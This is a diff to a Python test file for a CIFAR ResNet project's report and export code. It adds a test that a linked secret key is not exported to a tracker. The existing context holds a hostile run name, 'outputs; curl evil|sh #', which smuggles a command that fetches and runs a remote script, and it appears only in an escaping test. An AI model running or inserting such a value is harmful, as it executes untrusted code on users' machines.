@@ -11,6 +11,7 @@ import yaml
 
 from cifar_resnet import evaluate, load_run
 from cifar_resnet.errors import RunError
+from cifar_resnet.export import record as export
 from cifar_resnet.printable import UNPRINTABLE
 from cifar_resnet.report import command
 from cifar_resnet.report.runs import load
@@ -246,3 +247,12 @@ def test_hostile_names_reach_no_terminal_no_spreadsheet_and_no_page(report):
     assert "\npython aggregate.py 'outputs; curl evil|sh #'\n" in files["report.md"]
     assert "\\input{x}" not in files["report.tex"]
     assert "[bold]" in files["report.html"]
+
+
+def test_what_a_link_leads_to_is_not_copied_to_a_tracker(run, tmp_path):
+    (tmp_path / "key").write_text("secret")
+    as_link(run, "final.pt", tmp_path / "key")
+    assert "final.pt" not in export.read(run).attachments()
+    edit(run, "optim", "lr", 0.2)
+    with pytest.raises(RunError, match=CHANGED):
+        export.read(run)
